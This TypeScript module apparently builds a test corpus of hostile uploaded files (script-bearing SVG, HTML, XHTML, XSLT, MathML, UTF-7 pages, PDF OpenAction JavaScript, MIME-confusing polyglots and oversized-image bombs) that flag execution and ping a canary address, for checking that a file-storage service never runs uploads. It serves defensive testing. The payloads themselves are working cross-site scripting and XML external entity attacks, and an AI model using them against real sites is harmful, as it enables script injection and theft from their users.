import { gzipSync } from 'node:zlib';
import { zipSync } from 'fflate';

/**
 * The script in a file: if it runs, it reports that to every window it can reach and to the canary.
 * @param canary an address that no page has a reason to contact, without a trailing slash
 */
function runIn(canary: string): string {
  return `self.__pwned=1;try{parent.__pwned=1;top.__pwned=1}catch(e){};try{new Image().src='${canary}/ran'}catch(e){};try{fetch('${canary}/ran')}catch(e){}`;
}

/** Drawings, pages, scripts and documents under true and false names and types, and files of two types at once. */
export function hostileFiles(canary: string): readonly HostileFile[] {
  const run = runIn(canary);
  return [...hostileDrawings(run, canary), ...hostilePages(run, canary), ...polyglots(run)];
}

/** Pages, scripts, styles and documents that a browser runs or loads more for, under true and false names. */
function hostilePages(run: string, canary: string): readonly HostileFile[] {
  const page = `<!doctype html><title>x</title><script>${run}</script>`;
  const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>${run.replaceAll('&', '&amp;')}</script></body></html>`;
  const named = (
    [
      ['page.html', 'text/html'],
      ['page.htm', 'TEXT/HTML; charset=utf-8'],
      ['page.jpg', 'text/html'],
      ['photo.jpg.html', 'image/jpeg'],
      ['photo.html.jpg', 'image/png'],
      ['photo.php;.jpg', 'image/png;text/html'],
      ['two-types.jpg', 'text/html, image/png'],
      ['parameter.jpg', 'image/jpeg; x="text/html"'],
      ['no-type', undefined],
      ['no-such-type', 'x/y'],
      ['octets.html', 'application/octet-stream'],
      ['plain.html', 'text/plain'],
      ['unknown.html', 'application/x-unknown-content-type'],
      ['any.html', '*/*'],
      ['replaced.html', 'multipart/x-mixed-replace; boundary=x'],
      ['mail.mht', 'message/rfc822'],
      ['film.mp4', 'video/mp4'],
      ['paper.pdf', 'application/pdf'],
      ['drawing.svg', 'image/svg+xml'],
      ['icon.ico', 'image/x-icon'],
    ] as const
  ).map(([name, type]) => file(name, type, page));
  return [
    ...named,
    { ...file('inline.html', 'text/html', page), stored: { ContentDisposition: 'inline' } },
    file('spaces.jpg', 'image/jpeg', `${' \n'.repeat(400)}${page}`),
    file('xhtml.xhtml', 'application/xhtml+xml', xhtml),
    file('xhtml.xml', 'text/xml', xhtml),
    file(
      'transformed.xml',
      'application/xml',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></xsl:template></xsl:stylesheet></x>`,
    ),
    file(
      'formula.mml',
      'application/mathml+xml',
      `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${run}"><mtext><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></mtext></math>`,
    ),
    file(
      'feed.rss',
      'application/rss+xml',
      `<rss version="2.0"><channel><item><description><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></description></item></channel></rss>`,
    ),
    file('utf-7.html', 'text/html; charset=utf-7', `+ADw-script+AD4-${run}+ADw-/script+AD4-`),
    file('utf-16.html', 'text/html; charset=utf-16le', Buffer.from(`\ufeff${page}`, 'utf16le')),
    file(
      'refresh.html',
      'text/html',
      `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    ),
    file('script.js', 'text/javascript', run),
    file('script.jpg', 'application/javascript', run),
    file('module.mjs', 'text/javascript', `${run};export{}`),
    file('worker.js', 'text/javascript', `${run};onfetch=e=>e.respondWith(new Response('taken'))`),
    file('data.json', 'application/json', `{"x":"<script>${run}</script>"}`),
    file(
      'style.css',
      'text/css',
      `@import '${canary}/import.css';*{background:url(${canary}/b.png)}`,
    ),
    file('page-as-style.css', 'text/css', `{}*{background:url(${canary}/c.png)}${page}`),
    file('kept.appcache', 'text/cache-manifest', `CACHE MANIFEST\n${canary}/kept`),
    file('app.webmanifest', 'application/manifest+json', `{"start_url":"${canary}/start"}`),
    file('words.vtt', 'text/vtt', `WEBVTT\n\n00:00.000 --> 01:00.000\n<script>${run}</script>`),
    file('film.swf', 'application/x-shockwave-flash', 'FWS\u0009\u0000'),
  ];
}

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const TYPE = 'image/svg+xml';

/** Drawings that contain a script, or load one, in every way SVG has. */
function hostileDrawings(run: string, canary: string): readonly HostileFile[] {
  const attribute = run.replaceAll('"', '&quot;').replaceAll('&', '&amp;');
  const script = `<script><![CDATA[${run}]]></script>`;
  const whole = `<svg ${SVG} width="9" height="9">${script}</svg>`;
  const drawings: Readonly<Record<string, string>> = {
    'script.svg': whole,
    'script-href.svg': `<svg ${SVG}><script href="${canary}/script.js"/></svg>`,
    'script-xlink.svg': `<svg ${SVG}><script xlink:href="data:text/javascript,${encodeURIComponent(run)}"/></svg>`,
    'onload.svg': `<svg ${SVG} onload="${attribute}"/>`,
    'onbegin.svg': `<svg ${SVG}><animate onbegin="${attribute}" attributeName="x" dur="1s"/></svg>`,
    'set-onload.svg': `<svg ${SVG}><image href="x:" onerror="${attribute}"/></svg>`,
    'foreign-script.svg': `<svg ${SVG}><foreignObject width="9" height="9"><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></foreignObject></svg>`,
    'foreign-frame.svg': `<svg ${SVG}><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.__pwned=1"/></foreignObject></svg>`,
    'link.svg': `<svg ${SVG}><a xlink:href="javascript:${attribute}"><rect width="999" height="999"/></a></svg>`,
    'use-data.svg': `<svg ${SVG}><use href="data:image/svg+xml,${encodeURIComponent(whole)}#x"/></svg>`,
    'style-import.svg': `<svg ${SVG}><style>@import '${canary}/style.css';</style></svg>`,
    'picture-abroad.svg': `<svg ${SVG}><image href="${canary}/picture.png" width="9" height="9"/></svg>`,
    'entity.svg': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY run "${attribute}">]><svg ${SVG}><script>&run;</script></svg>`,
    'entity-abroad.svg': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${canary}/entity">]><svg ${SVG}><text>&x;</text></svg>`,
    'style-sheet.svg': `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${canary}/style.css"?><svg ${SVG}/>`,
    'handler.svg': `<svg ${SVG}><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
    'behind-a-comment.svg': `<!-- a drawing --><?x y?><!DOCTYPE svg>${whole}`,
    'page-in-comment.svg': `<!--><script>${run}</script>-->${whole}`,
  };
  return [
    ...Object.entries(drawings).map(([name, text]) => file(name, TYPE, text)),
    file('drawing.png', 'image/png', whole),
    file('drawing.xml', 'application/xml', whole),
    file('drawing.html', 'text/html', whole),
    file('marked.svg', TYPE, `\ufeff${whole}`),
    file('utf-16.svg', TYPE, Buffer.from(`\ufeff${whole}`, 'utf16le')),
    {
      ...file('packed.svg', TYPE, gzipSync(whole)),
      stored: { ContentEncoding: 'gzip', ContentDisposition: 'inline' },
    },
  ];
}

/** Files that begin as one type and continue as another, and pictures that claim to be larger than any memory. */
function polyglots(run: string): readonly HostileFile[] {
  const page = `<!doctype html><script>${run}</script>`;
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`;
  /** Each letter of a text is a byte. */
  const bytes = (name: string, type: string, ...parts: (string | Uint8Array)[]) =>
    file(
      name,
      type,
      Buffer.concat(
        parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
      ),
    );
  const gif = 'GIF89a';
  const jpeg = '\xff\xd8\xff\xfe';
  const png = '\x89PNG\r\n\x1a\n';
  const length = (text: string) => {
    const two = Buffer.alloc(2);
    two.writeUInt16BE(text.length + 2);
    return two;
  };
  const size = '\xff\xff\xff\xff';
  return [
    bytes('gif.js', 'text/javascript', gif, `=1;${run};`),
    bytes('gif.html', 'text/html', gif, '\x01\0\x01\0', page),
    bytes('gif.gif', 'image/gif', gif, `/*${page}*/=1;${run}`),
    bytes('jpeg.html', 'text/html', jpeg, length(page), page, '\xff\xd9'),
    bytes('jpeg.js', 'text/javascript', jpeg, `/*\0*/=1;${run}`),
    bytes('jpeg.jpg', 'image/jpeg', jpeg, length(page), page, '\xff\xd9'),
    bytes('png.html', 'text/html', png, '\0\0\0\rIHDR', page),
    bytes('png.svg', 'image/svg+xml', png, drawing),
    bytes('webp.html', 'text/html', 'RIFF\xff\0\0\0WEBPVP8X', page),
    bytes('avif.html', 'text/html', '\0\0\0\x1cftypavif\0\0\0\0avif', page),
    bytes('riff.js', 'text/javascript', `RIFF=1;${run};//WAVE`),
    bytes('bitmap.js', 'text/javascript', `BM=1;${run};`),
    bytes('bitmap.html', 'image/bmp', 'BM', page),
    bytes('pdf.js', 'text/javascript', `%PDF-1.7=1;${run};`),
    bytes(
      'pdf.pdf',
      'application/pdf',
      `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${run})>>>>endobj\n`,
      page,
    ),
    bytes('pdf.html', 'text/html', '%PDF-1.7\n', page),
    bytes('zip.html', 'text/html', zipSync({ 'index.html': Buffer.from(page) }, { level: 0 })),
    bytes('zip.jar', 'application/java-archive', 'PK\x03\x04', page),
    bytes('film.html', 'text/html', '\0\0\0\x18ftypmp42\0\0\0\0mp42', page),
    bytes('huge.png', 'image/png', png, '\0\0\0\rIHDR', size, size, '\x08\x06'),
    bytes('huge.gif', 'image/gif', gif, '\xff\xff\xff\xff\x80\0\0'),
    bytes(
      'huge.jpg',
      'image/jpeg',
      '\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\x01"\0\x02\x11\x01\x03\x11\x01',
    ),
    bytes(
      'huge.svg',
      'image/svg+xml',
      '<svg xmlns="http://www.w3.org/2000/svg" width="9e9" height="9e9"/>',
    ),
  ];
}

/** A file as uploaded by somebody who follows no rule. */
export interface HostileFile {
  /** What its key ends with. */
  readonly name: string;
  /** The declared content type; absent where none is declared. */
  readonly type?: string;
  readonly body: Uint8Array;
  /** Further declared headers, among those that S3 stores. */
  readonly stored?: Readonly<
    Partial<Record<'ContentEncoding' | 'ContentDisposition' | 'CacheControl', string>>
  >;
}

function file(name: string, type: string | undefined, body: string | Uint8Array): HostileFile {
  return { name, body: Buffer.from(body), ...(type !== undefined && { type }) };
}
